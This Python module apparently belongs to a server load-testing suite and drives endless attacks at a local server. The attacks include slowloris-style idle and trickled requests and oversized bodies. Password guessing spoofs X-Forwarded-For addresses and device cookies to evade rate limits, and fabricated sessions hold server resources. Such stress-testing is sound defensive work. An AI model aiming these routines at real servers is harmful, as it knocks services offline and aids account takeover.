"""The worst that one signed-in person and twenty connections can do, in one table; each goes on until it is ended.

As a program of its own it does one of them, so that whoever measures is not held up by it; it is told where, and as
whom.
"""

import json
import os
import secrets
import socket
import ssl
import sys
import threading
import time
import urllib.parse
import uuid
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field, replace
from typing import Any

CONNECTIONS = 20
MIB = 1024 * 1024
# The largest that somebody signed in may send.
BIG = 4 * MIB - 1000
FORM = "application/x-www-form-urlencoded"


@dataclass(frozen=True)
class Target:
    """A server, and how somebody who is signed in there asks it."""

    port: int
    host: str
    tls: bool = False
    headers: dict[str, str] = field(default_factory=dict)
    signed_in: dict[str, str] = field(default_factory=dict)
    reads_the_trail: dict[str, str] = field(default_factory=dict)
    # more sessions of whoever is signed in, and cookies of devices that they are known on
    sessions: list[dict[str, str]] = field(default_factory=list)
    devices: list[str] = field(default_factory=list)
    record: str = ""
    family: str = ""
    connections: int = CONNECTIONS

    def connect(self, *, small_window: bool = False) -> socket.socket:
        plain = socket.socket()
        if small_window:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        plain.settimeout(60)
        plain.connect(("127.0.0.1", self.port))
        if not self.tls:
            return plain
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        return context.wrap_socket(plain, server_hostname=self.host)

    def head(self, method: str, path: str, more: dict[str, str]) -> bytes:
        lines = [f"{method} {path} HTTP/1.1", f"Host: {self.host}"]
        lines += [f"{name}: {value}" for name, value in (self.headers | more).items()]
        return "\r\n".join([*lines, "", ""]).encode()


Abuse = Callable[[Target], None]


def again_and_again(work: Callable[[Target], None], *, at_once: int | None = None) -> Abuse:
    """The same on so many connections at once, or on as many as the target says, for ever."""

    def go_on(target: Target) -> None:
        while True:
            with suppress(OSError):
                work(target)
            time.sleep(0.01)

    def begin(target: Target) -> None:
        for _ in range(at_once or target.connections):
            threading.Thread(target=go_on, args=[target], daemon=True).start()

    return begin


def idle_headers(target: Target) -> None:
    with target.connect() as connection:
        connection.send(b"GET / HTTP/1.1\r\nHost: ")
        connection.recv(1)


def idle_body(of: str) -> Callable[[Target], None]:
    def idle(target: Target) -> None:
        with target.connect() as connection:
            body = {"Content-Type": FORM, "Content-Length": "100"}
            connection.send(target.head("POST", "/sign-in/", getattr(target, of) | body) + b"a=")
            connection.recv(1)

    return idle


def trickled_body(of: str) -> Callable[[Target], None]:
    def trickle(target: Target) -> None:
        with target.connect() as connection:
            body = {"Content-Type": FORM, "Content-Length": "60000"}
            connection.send(target.head("POST", f"/records/{target.record}/save/", getattr(target, of) | body))
            while True:
                connection.send(b"a")
                time.sleep(0.5)

    return trickle


def slow_reader(target: Target) -> None:
    with target.connect(small_window=True) as connection:
        connection.send(target.head("GET", f"/records/{target.record}/", target.signed_in))
        time.sleep(20)


def large_body(of: str) -> Callable[[Target], None]:
    def send(target: Target) -> None:
        with target.connect() as connection:
            body = {"Content-Type": FORM, "Content-Length": str(BIG), "Connection": "close"}
            connection.send(target.head("POST", f"/records/{target.record}/save/", getattr(target, of) | body))
            sent = b"typed.text=" + b"a" * (BIG - 11)
            connection.sendall(sent)
            while connection.recv(65536):
                pass

    return send


def form_without_a_token(target: Target) -> None:
    """In one of many sessions; of the most that takes longest to read, for a page that then refuses it."""
    content = b"current=" + b"%e4%bd%a0" * ((BIG - 8) // 9)
    more = {"Content-Type": FORM, "Content-Length": str(len(content)), "Connection": "close", "X-CSRFToken": ""}
    with target.connect() as connection:
        head = target.head("POST", "/account/password/", secrets.choice(target.sessions) | more)
        connection.sendall(head + content)
        while connection.recv(65536):
            pass


def guess_from_many_devices(target: Target) -> None:
    """At addresses that are nobody's: each costs as much as one that is somebody's, and counts for nobody."""
    cookie = {"Cookie": f"{target.headers['Cookie']}; {secrets.choice(target.devices)}"}
    guess = asking("/sign-in/", of="headers", fields=lambda: a_guess() | {"login": f"{uuid.uuid4()}@example.org"})
    guess(replace(target, headers=target.headers | cookie))


def asking(
    path: str, *, of: str = "signed_in", fields: Callable[[], dict[str, str]] | None = None
) -> Callable[[Target], None]:
    """Asks for a page, or sends a form, and reads the whole answer."""

    def ask(target: Target) -> None:
        filled = path.format(record=target.record, family=target.family)
        content = urllib.parse.urlencode(fields()).encode() if fields else b""
        more = getattr(target, of) | {"Connection": "close"}
        if fields:
            more |= {"Content-Type": FORM, "Content-Length": str(len(content))}
        with target.connect() as connection:
            connection.sendall(target.head("POST" if fields else "GET", filled, more) + content)
            while connection.recv(65536):
                pass

    return ask


def a_new_row() -> dict[str, str]:
    words = f"{secrets.token_hex(8)} and so it went on. " * 50
    return {
        "row": f"mirroring.{uuid.uuid4()}",
        "base": "0",
        "save_id": str(uuid.uuid4()),
        "typed.among_us": words,
    }


def a_guess() -> dict[str, str]:
    return {"login": "sam.okafor@example.org", "password": secrets.token_hex(8)}


def from_anywhere_in_one_network() -> dict[str, str]:
    """Each time another of the addresses that one household has."""
    return {"X-Forwarded-For": f"2001:db8::{secrets.token_hex(2)}:{secrets.token_hex(2)}"}


def guess_from_one_network(target: Target) -> None:
    guess = asking("/sign-in/", of="headers", fields=a_guess)
    guess(replace(target, headers=target.headers | from_anywhere_in_one_network()))


def guess_from_networks_of_one_customer(target: Target) -> None:
    """Each time from another network of those that a provider gives one customer, at an address that is nobody's."""
    elsewhere = {"X-Forwarded-For": f"2001:db8:7:{secrets.token_hex(2)}::5"}
    guess = asking("/sign-in/", of="headers", fields=lambda: a_guess() | {"login": f"{uuid.uuid4()}@example.org"})
    guess(replace(target, headers=target.headers | elsewhere))


HOLDS_ROOM_FROM = "192.0.2.77"


def hold_room_with_made_up_sessions(target: Target) -> None:
    """Says that much comes, of a session that never was, from one network, and sends a byte of it."""
    made_up = {
        "Cookie": f"{target.headers['Cookie']}; __Host-session={secrets.token_hex(16)}",
        "X-Forwarded-For": HOLDS_ROOM_FROM,
        "Content-Type": FORM,
        "Content-Length": str(MIB),
    }
    with target.connect() as connection:
        connection.sendall(target.head("POST", "/account/password/", target.headers | made_up) + b"a")
        connection.recv(1)


def guess_and_hang_up(target: Target) -> None:
    content = urllib.parse.urlencode(a_guess()).encode()
    more = {"Content-Type": FORM, "Content-Length": str(len(content))} | from_anywhere_in_one_network()
    with target.connect() as connection:
        connection.sendall(target.head("POST", "/sign-in/", more) + content)


ABUSES: dict[str, Abuse] = {
    "idle connections": again_and_again(idle_headers),
    "idle bodies": again_and_again(idle_body("headers")),
    "idle bodies, signed in": again_and_again(idle_body("signed_in")),
    "trickled bodies": again_and_again(trickled_body("headers")),
    "trickled bodies, signed in": again_and_again(trickled_body("signed_in")),
    "slow readers": again_and_again(slow_reader),
    "the largest body, from a stranger": again_and_again(large_body("headers"), at_once=4),
    "the largest body, signed in": again_and_again(large_body("signed_in"), at_once=4),
    "forms without a token, in many sessions": again_and_again(form_without_a_token),
    "PDF of the largest record": again_and_again(asking("/records/{record}/pdf/"), at_once=1),
    "many PDFs at once": again_and_again(asking("/records/{record}/pdf/")),
    "many Word documents at once": again_and_again(asking("/records/{record}/word/")),
    "records": again_and_again(asking("/records/{record}/")),
    "histories": again_and_again(asking("/records/{record}/history/answer.key_factors/")),
    "exports": again_and_again(asking("/trail/families/{family}/export/", of="reads_the_trail")),
    "polls": again_and_again(asking("/records/{record}/together/?since=0")),
    "saves": again_and_again(asking("/records/{record}/save/", fields=a_new_row)),
    "password guesses": again_and_again(asking("/sign-in/", of="headers", fields=a_guess)),
    "password guesses from all of a network": again_and_again(guess_from_one_network, at_once=60),
    "password guesses from many devices": again_and_again(guess_from_many_devices, at_once=40),
    "password guesses from all networks of one customer": again_and_again(
        guess_from_networks_of_one_customer, at_once=40
    ),
    "room held by made-up sessions": again_and_again(hold_room_with_made_up_sessions, at_once=90),
    "password guesses, hung up on": again_and_again(guess_and_hang_up),
}


def told(lines: Iterator[str]) -> tuple[str, Target]:
    said: dict[str, Any] = json.loads(next(lines))
    return said.pop("abuse"), Target(**said)


if __name__ == "__main__":
    # An attacker's computer is another one: what it takes of this one is not the server's doing.
    os.nice(19)
    name, target = told(iter(sys.stdin))
    ABUSES[name](target)
    print("begun", flush=True)
    sys.stdin.read()
